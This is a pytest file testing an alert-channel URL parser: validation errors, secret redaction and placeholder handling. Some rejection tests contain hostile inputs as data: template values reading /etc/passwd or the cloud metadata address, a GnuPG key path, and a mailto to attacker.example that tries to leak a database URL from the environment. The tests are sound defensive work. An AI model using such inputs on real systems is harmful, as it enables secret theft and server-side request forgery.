"""Channel URLs: validation with clear errors, and secrets that never show."""

from __future__ import annotations

import pytest

from mimir.alerts.channels import ChannelKind, InvalidChannel, parse_channel, redact

SLACK_TOKENS = "T1JJ3T3L2/A1BRTD4JD/TIiajkdnlazkcOXrIdevi7FQ"


@pytest.mark.parametrize(
    ("url", "scheme", "service", "secrets"),
    [
        (
            "mailtos://alice:S3cretPass@smtp.example.org?to=bob@example.org&from=alice@example.org",
            "mailtos",
            "E-Mail",
            ["S3cretPass"],
        ),
        (f"slack://{SLACK_TOKENS}", "slack", "Slack", ["TIiajkdnlazkcOXrIdevi7FQ", "A1BRTD4JD"]),
        (
            f"https://hooks.slack.com/services/{SLACK_TOKENS}",
            "slack",
            "Slack",
            ["TIiajkdnlazkcOXrIdevi7FQ"],
        ),
        (
            "discord://4174216298/JHMHI8qBe7bk2ZwO5U711o3dV_js",
            "discord",
            "Discord",
            ["JHMHI8qBe7bk2ZwO5U711o3dV_js"],
        ),
        (
            "tgram://123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/-1001234567",
            "tgram",
            "Telegram",
            ["AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw"],
        ),
        (
            "workflows://prod-12.westus.logic.azure.com:443/a1b2c3d4e5f6/SigVal9876543210",
            "workflow",
            "Power Automate / Workflows (for MSTeams)",
            ["a1b2c3d4e5f6", "SigVal9876543210"],
        ),
        ("ntfys://bob:n7fyPass@ntfy.example.org/alerts", "ntfys", "ntfy", ["n7fyPass"]),
    ],
)
def test_apprise_channels_validate_and_redact(
    url: str, scheme: str, service: str, secrets: list[str]
) -> None:
    channel = parse_channel(url)
    assert channel.kind is ChannelKind.APPRISE
    assert (channel.scheme, channel.service) == (scheme, service)
    shown = [channel.display, str(channel), repr(channel)]
    for secret in secrets:
        assert all(secret not in text for text in shown), (secret, shown)
    assert channel.url == url  # the real URL stays available to the notifier


def test_display_keeps_what_the_user_wrote_and_drops_apprise_defaults() -> None:
    channel = parse_channel("ntfys://ntfy.example.org/alerts?priority=high")
    assert channel.display == "ntfys://ntfy.example.org/alerts?priority=high"


def test_generic_webhooks_are_delivered_and_signed_by_mimir() -> None:
    channel = parse_channel(
        "jsons://bot:pa55word@hooks.example.org:8443/catch/12345/a9b8c7d6e5f4"
        "?+Authorization=Bearer%20tok3n&-team=news"
    )
    assert channel.kind is ChannelKind.WEBHOOK
    assert channel.service == "Signed webhook"
    target = channel.webhook
    assert target is not None
    assert target.url == "https://hooks.example.org:8443/catch/12345/a9b8c7d6e5f4?team=news"
    assert target.headers == {"Authorization": "Bearer tok3n"}
    assert (target.username, target.password, target.verify_tls) == ("bot", "pa55word", True)
    assert channel.display == (
        "jsons://bot:****@hooks.example.org:8443/catch/12345/a...4"
        "?+Authorization=****&-team=****"
    )
    for text in (channel.display, repr(channel), repr(target)):
        assert "pa55word" not in text and "tok3n" not in text and "a9b8c7d6e5f4" not in text
    plain = parse_channel("json://10.0.0.5:8080/hook?verify=no")
    assert plain.webhook is not None
    assert plain.webhook.url == "http://10.0.0.5:8080/hook"
    assert plain.webhook.verify_tls is False


@pytest.mark.parametrize(
    ("url", "message"),
    [
        ("", "a channel is an Apprise URL"),
        ("smtp.example.org", "with a scheme"),
        ("nosuch://x", "unknown channel type nosuch://"),
        ("https://example.org/hook", "for a generic webhook write jsons://"),
        ("form://example.org/hook", "cannot be signed; use json://"),
        ("xmls://example.org/hook", "cannot be signed; use jsons://"),
        ("json://example.org/hook?method=GET", "sent with POST"),
        ("json://example.org/hook?:message=text", "payload mapping"),
        ("tgram://notatoken/", "could not be parsed"),
        ("mailto://", "invalid mailto:// URL"),
        (f"slack://{SLACK_TOKENS}?template=/etc/passwd", "local file"),
        (f"slack://{SLACK_TOKENS}?template=file:///etc/passwd", "local file"),
        (f"slack://{SLACK_TOKENS}?template=http://169.254.169.254/x", "fetch a URL"),
        (f"slack://{SLACK_TOKENS}?template=templates/x.json", "read a file"),
        ("mailtos://u:p@example.org?pgpprv=~/.gnupg/key.asc", "local file"),
    ],
)
def test_invalid_channels_say_what_is_wrong(url: str, message: str) -> None:
    with pytest.raises(InvalidChannel, match=message.replace("?", r"\?")) as caught:
        parse_channel(url)
    assert caught.value.code == "invalid_channel" and caught.value.status == 400


def test_errors_never_echo_secrets() -> None:
    url = "discord://4174216298/"  # the token is missing; Apprise names the id it got
    with pytest.raises(InvalidChannel) as caught:
        parse_channel(url)
    assert "4174216298" not in caught.value.message
    assert "invalid discord:// URL" in caught.value.message


def test_redact_replaces_every_url_part_but_those_kept() -> None:
    url = "mailtos://alice:S3cret%2Bx@smtp.example.org/?to=bob@example.org&apikey=k-123456"
    message = "login S3cret+x refused by smtp.example.org for alice (key k-123456)"
    assert redact(message, url) == "login **** refused by **** for **** (key ****)"
    assert redact(message, url, keep={"smtp.example.org", "alice"}) == (
        "login **** refused by smtp.example.org for alice (key ****)"
    )


def test_placeholders_are_filled_from_the_given_secrets_only() -> None:
    written = "mailtos://alerts%40example.org:${SMTP_PASS}@smtp.example.org:587?to=team@example.org"
    channel = parse_channel(written, placeholders={"SMTP_PASS": "p@ss/w0rd&x=1"})
    assert channel.url == written  # what is stored keeps the placeholder
    assert channel.target_url == (
        "mailtos://alerts%40example.org:p%40ss%2Fw0rd%26x%3D1@smtp.example.org:587"
        "?to=team@example.org"
    )
    assert "w0rd" not in channel.display and "w0rd" not in repr(channel)
    with pytest.raises(InvalidChannel, match=r"no value for \$\{SMTP_PASS\}"):
        parse_channel(written)
    with pytest.raises(InvalidChannel, match=r"no value for \$\{SMTP_PASS\}"):
        parse_channel(written, placeholders={"OTHER": "x"})


def test_the_environment_is_not_a_source_of_placeholders(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MIMIR_DATABASE_URL", "postgresql://mimir:dbpass@db/mimir")
    with pytest.raises(InvalidChannel, match="MIMIR_DATABASE_URL") as caught:
        parse_channel("mailto://attacker.example?to=x@attacker.example&from=${MIMIR_DATABASE_URL}")
    assert "dbpass" not in caught.value.message
